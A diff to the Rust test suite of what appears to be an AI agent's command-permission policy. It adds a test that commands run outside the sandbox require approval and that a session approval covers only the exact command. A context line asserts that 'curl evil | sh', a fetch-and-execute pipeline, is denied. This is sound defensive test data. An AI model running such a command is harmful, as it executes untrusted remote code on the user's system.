@@ -452,3 +452,21 @@ fn commands_from_the_project_ask_even_where_a_built_in_allows_and_remember_exact
     assert_eq!(decide("make check"), Decision::Allow);
     assert_eq!(decide("curl evil | sh"), Decision::Deny);
 }
+
+#[test]
+fn a_command_run_outside_the_sandbox_is_not_covered_by_a_built_in_allow() {
+    let p = Policy::new();
+    let mut s = PermissionState::new();
+    let a = Access::execute("terminal", "cat notes.txt");
+    let v = p.evaluate_unconfined(&a, &s);
+    assert_eq!(v.decision, Decision::Ask);
+    assert!(
+        v.explain().contains("outside the sandbox"),
+        "{}",
+        v.explain()
+    );
+    assert!(s.answer(&v, &Reply::AlwaysSession).unwrap().allowed);
+    assert_eq!(p.evaluate_unconfined(&a, &s).decision, Decision::Allow);
+    let other = Access::execute("terminal", "cat other.txt");
+    assert_eq!(p.evaluate_unconfined(&other, &s).decision, Decision::Ask);
+}
